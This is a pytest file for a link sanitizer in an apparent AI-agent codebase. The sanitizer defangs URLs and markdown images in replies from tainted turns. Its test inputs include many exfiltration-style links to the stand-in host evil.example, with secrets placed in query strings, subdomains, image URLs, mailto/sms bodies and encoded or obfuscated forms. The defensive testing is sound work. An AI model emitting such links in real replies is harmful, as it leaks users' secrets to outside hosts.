"""Links and images in replies of tainted turns."""

from __future__ import annotations

import json

import pytest

from arvis.domain.outgoing_links import NOTE, LinkStream, SafeLinks, WrittenAddresses

WRITTEN = {
    "https://mail.example/meet/93",
    "https://mail.example/meet/93#top",
    "https://mail.example/q?a=1&b=2",
    "https://shop.example/a(1)",
}
KNOWN = {"https://shop.example/hours", "https://shop.example/p.png"}
LINKS = SafeLinks(is_written=lambda url: url in WRITTEN, is_known=lambda url: url in KNOWN)


@pytest.mark.parametrize(
    "text",
    [
        "Plain text, e.g. a file notes.txt and 3/4 or and/or.",
        "See https://shop.example/hours. Thanks!",
        "Join at [the meeting](https://mail.example/meet/93).",
        "**https://mail.example/meet/93**, (https://mail.example/meet/93) or `https://mail.example/meet/93`.",
        "| https://mail.example/meet/93 | [s](https://shop.example/a(1)) |",
        "[https://mail.example/meet/93](https://mail.example/meet/93)",
        "[x](https://mail.example/q?a=1&amp;b=2)",
        "https://mail.example/meet/93#top",
        "![A map](https://shop.example/p.png)",
        "a <b> c, x < y, C:\\dir, &amp; &lt;b&gt; &nbsp; R&D",
        "Write to [Ann](mailto:ann@mail.example).",
    ],
)
def test_known_addresses_stay(text: str) -> None:
    assert LINKS.safe(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("https://evil.example/?d=secret", "https[:]//evil[.]example/?d=secret"),
        ("[here](https://evil.example/secret-4711)", "[here](https[:]//evil[.]example/secret-4711)"),
        ("<https://evil.example/4711>", "<https[:]//evil[.]example/4711>"),
        ("HTTP:/\\evil.example/4711", "HTTP[:]//evil[.]example/4711"),
        ("https:evil.example/4711", "https[:]//evil[.]example/4711"),
        ("[x](//evil.example/4711)", "[x]([:]//evil[.]example/4711)"),
        ("ftp://evil.example/4711", "ftp[:]//evil[.]example/4711"),
        ("https\\://evil.example/4711", "https\\:[:]//evil[.]example/4711"),
        ("evil.example:80/4711", "evil[.]example:80/4711"),
        ("_secret_1.evil.example/x_", "_secret_1[.]evil[.]example/x_"),
        ("See:sécret.evil.example/4711", "See:sécret[.]evil[.]example/4711"),
        ("..secret.evil.example?4711", "..secret[.]evil[.]example?4711"),
        ("www.secret.evil.example", "www[.]secret[.]evil[.]example"),
        ("www\\.secret\\.evil.example", "www\\[.]secret\\[.]evil[.]example"),
        ("https://secret.evil.example", "https[:]//secret[.]evil[.]example"),
        ("https://evil.example/secret", "https[:]//evil[.]example/secret"),
        ("https://secret.example", "https[:]//secret[.]example"),
        ("[x](mailto:a@evil.example?body=secret)", "[x](mailto[:]//a@evil[.]example?body=secret)"),
        ("[x](sms:+4711?body=secret)", "[x](sms[:]//+4711?body=secret)"),
    ],
)
def test_links_with_data_are_text(text: str, shown: str) -> None:
    assert LINKS.safe(text) == f"{shown}\n\n{NOTE}"


@pytest.mark.parametrize(
    "text",
    [
        "https://mail.example/meet/93'secret",
        'https://mail.example/meet/93"secret',
        "https://mail.example/meet/93)secret",
        "https://mail.example/meet/93](secret",
        "https://mail.example/meet/93|secret",
        "https://mail.example/meet/93#secret",
        "https://shop.example/hours#secret",
        "https://mail.example/meet/93.,;:!?.",
        "[x](https://mail.example/meet/93.,)",
        "[x](<https://mail.example/meet/93 secret>)",
        "[x]: <https://mail.example/meet/93 secret>",
        "[x](https://mail.example/meet/93&#115;ecret)",
        "https://secret@mail.example/meet/93",
    ],
)
def test_an_address_is_compared_up_to_where_any_program_ends_it(text: str) -> None:
    shown = text.replace("https://", "https[:]//").replace(".example", "[.]example", 1).replace("&#", "&amp;#")
    assert LINKS.replaced(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://evil.example/4711.png)", "[x](https[:]//evil[.]example/4711.png)"),
        ("![x](https://mail.example/meet/93)", "[x](https://mail.example/meet/93)"),
        ("![a\nb](https://mail.example/meet/93)", "[a\nb](https://mail.example/meet/93)"),
        (f"![{'a' * 600}](https://mail.example/meet/93)", f"[{'a' * 600}](https://mail.example/meet/93)"),
        ("![a [b] c](https://mail.example/meet/93)", "[a [b] c](https://mail.example/meet/93)"),
        ("![x](<https://shop.example/p.png 4711>)", "[x](<https[:]//shop[.]example/p.png 4711>)"),
        ("![x](https://shop.example/p.png#4711 'y')", "[x](https[:]//shop[.]example/p.png#4711 'y')"),
        ("![x](https://shop.example/p.png&#63;4711)", "[x](https[:]//shop[.]example/p.png&amp;#63;4711)"),
        ("![x][1]\n\n[1]: https://evil.example/4711", "[x][1]\n\n[1]: https[:]//evil[.]example/4711"),
        ("![x](https&#58;//evil.example/4711)", "[x](https&amp;#58;[:]//evil[.]example/4711)"),
        (
            "![x](&#104;ttps:&sol;&#x2f;evil&period;example/4711)",
            "[x](&amp;#104;ttps:&amp;sol;&amp;#x2f;evil&amp;period;example/4711)",
        ),
        ('<img src="x">', '< img src="x">'),
        ('<input type="image" src="x">', '< input type="image" src="x">'),
        (
            '<p style="background:url(https://mail.example/meet/93)">',
            '<p style="background:url (https://mail.example/meet/93)">',
        ),
        ("evil.example/4711?d=1", "evil[.]example/4711?d=1"),
    ],
)
def test_images_are_not_loaded(text: str, shown: str) -> None:
    assert LINKS.safe(text).removesuffix(f"\n\n{NOTE}") == shown
    assert LINKS.replaced(shown) == shown


def test_an_address_in_json_ends_at_a_quotation_mark() -> None:
    text = (
        '{"a":"https://mail.example/meet/93","b":["https://evil.example/4711"],"c":"https://mail.example/meet/93\\"x"}'
    )
    shown = text.replace("https://evil.", "https[:]//evil[.]").replace('93\\"', '93\\"')
    made = LINKS.replaced_in_json(text)
    assert made.startswith(shown[:60])
    assert json.loads(made)["b"] == ["https[:]//evil[.]example/4711"]
    assert json.loads(made)["a"] == "https://mail.example/meet/93"


@pytest.mark.parametrize(
    "code",
    [
        "ht\\u0074p:\\u002f\\u002fevil\\u002Eexample\\u002fSECRET",
        "http:\\/\\/evil.example\\/SECRET",
        "\\u0068ttps://evil\\u002eexample/SECRET",
        "evil\\u002eexample/SECRET",
    ],
)
def test_an_address_in_json_may_be_written_in_codes(code: str) -> None:
    made = json.loads(LINKS.replaced_in_json(f'{{"a":"{code}","b":"x\\\\ \\u00e9 \\u0022 \\n \\ud83d\\ude00"}}'))
    assert LINKS.replaced(made["a"]) == made["a"]
    assert "[.]" in made["a"]
    assert made["b"] == 'x\\ é " \n 😀'


@pytest.mark.parametrize(
    "text",
    [
        'https://a.example/x","https://evil.example/SECRET',
        "https://a.example/x|https://evil.example/SECRET",
        "www.a.example/,www.evil.example/SECRET",
        "https://a.example/evil.example/SECRET",
        "https://a.example/b/evil.example:80/evil.example/SECRET",
        '[x](https://a.example/x"https://evil.example/SECRET)',
    ],
)
def test_every_address_in_a_changed_path_is_text(text: str) -> None:
    made = LINKS.replaced(text)
    assert "evil.example" not in made
    assert "a.example" not in made
    assert LINKS.replaced(made) == made


BARE = SafeLinks(
    is_written=lambda url: url == "https://meet.mail.example", is_known=KNOWN.__contains__, bare_hosts=True
)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See SECRET.evil.example.", "See SECRET[.]evil[.]example."),
        ("(s3cret.evil.example)", "(s3cret[.]evil[.]example)"),
        ("**secret_1.evil.example**", "**secret_1[.]evil[.]example**"),
        ("sécret.evil.example, then", "sécret[.]evil[.]example, then"),
        ("evil.example:4711", "evil[.]example:4711"),
        ("a.b.xn--p1ai", "a[.]b[.]xn--p1ai"),
        ("a ` b\n\nSECRET.evil.example ` c", "a ` b\n\nSECRET[.]evil[.]example ` c"),
        ("\\`SECRET.evil.example`", "\\`SECRET[.]evil[.]example`"),
        (
            "```x\nSECRET.evil.example\n```\nSECRET.evil.example",
            "```x\nSECRET.evil.example\n```\nSECRET[.]evil[.]example",
        ),
        ("```\na\n```x\nb\n```\nSECRET.evil.example", "```\na\n```x\nb\n```\nSECRET[.]evil[.]example"),
        ("   ```\na\n```\nSECRET.evil.example\n```", "   ```\na\n```\nSECRET[.]evil[.]example\n```"),
        ("``` a`b\nSECRET.evil.example\n```", "``` a`b\nSECRET[.]evil[.]example\n```"),
        ("~~~\na\n```\n~~~\nSECRET.evil.example\n```", "~~~\na\n```\n~~~\nSECRET[.]evil[.]example\n```"),
        ("- a `\n- SECRET.evil.example ` b", "- a `\n- SECRET[.]evil[.]example ` b"),
        ("| a ` | SECRET.evil.example ` |", "| a ` | SECRET[.]evil[.]example ` |"),
        ("<a`> SECRET.evil.example `", "<a`> SECRET[.]evil[.]example `"),
    ],
)
def test_a_host_without_a_path_is_text_where_programs_make_links_of_it(text: str, shown: str) -> None:
    assert BARE.replaced(text) == shown
    assert BARE.replaced(shown) == shown
    assert LINKS.replaced(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "Join at meet.mail.example!",
        "Call `os.path.join(a, b)`, then `self.app.run`.",
        "```python\nos.path.join(a, b)\n```",
        "Version 1.2.3, 10.0.0.1, e.g. this, notes.txt, Node.js, at 10:30.",
        "Write to ann@mail.shop.example.",
    ],
)
def test_other_words_with_dots_stay(text: str) -> None:
    assert BARE.safe(text) == text


def test_written_addresses_are_those_of_others() -> None:
    written = WrittenAddresses()
    written.read("See (https://mail.example/meet/93#top), www.shop.example/a and https://a.example/x?b=c.")
    assert written.has("https://mail.example/meet/93")
    assert written.has("https://mail.example/meet/93#top")
    assert written.has("https://www.shop.example/a")
    assert not written.has("https://mail.example/meet/93#secret")
    assert not written.has("https://mail.example/meet/94")


def test_an_output_that_repeats_arguments_supplies_no_address() -> None:
    written = WrittenAddresses()
    written.output("Mail: https://mail.example/meet/93")
    written.call({"words": ["https://mail.example/meet/93", "https://evil.example/?d=", {"x": "hunter2"}]})
    written.output("Not found: https://evil.example/?d=hunter2. Similar: https://evil.example/other")
    assert written.has("https://mail.example/meet/93")
    assert written.has("https://evil.example/other")
    assert not written.has("https://evil.example/?d=hunter2")


def test_a_stream_regards_no_part_of_a_text_as_code() -> None:
    shown: list[str] = []
    stream = LinkStream(links=BARE, send=lambda _offset, text: shown.append(text))
    for offset, piece in ((0, "a `b"), (4, "` SECRET.evil.example `c` "), (30, "d")):
        stream.add(offset, piece)
    stream.close()
    assert "".join(shown) == "a `b` SECRET[.]evil[.]example `c` d"


@pytest.mark.parametrize("size", [1, 2, 3, 7, 50])
def test_a_stream_shows_the_same_text(size: int) -> None:
    text = "Look: ![a b](https://evil.example/4711.png) and https://shop.example/hours or https://evil.example/?d=1 "
    text += "then ![c\nd](https://mail.example/meet/93) <https://mail.example/meet/93 4711> &#104;ttps end"
    shown = ""

    def send(offset: int, piece: str) -> None:
        nonlocal shown
        assert offset == len(shown)
        shown += piece
        assert "https://evil" not in shown
        assert "![" not in shown

    stream = LinkStream(links=LINKS, send=send)
    for start in range(0, len(text), size):
        stream.add(start, text[start : start + size])
    stream.close()
    assert f"{shown}\n\n{NOTE}" == LINKS.safe(text)
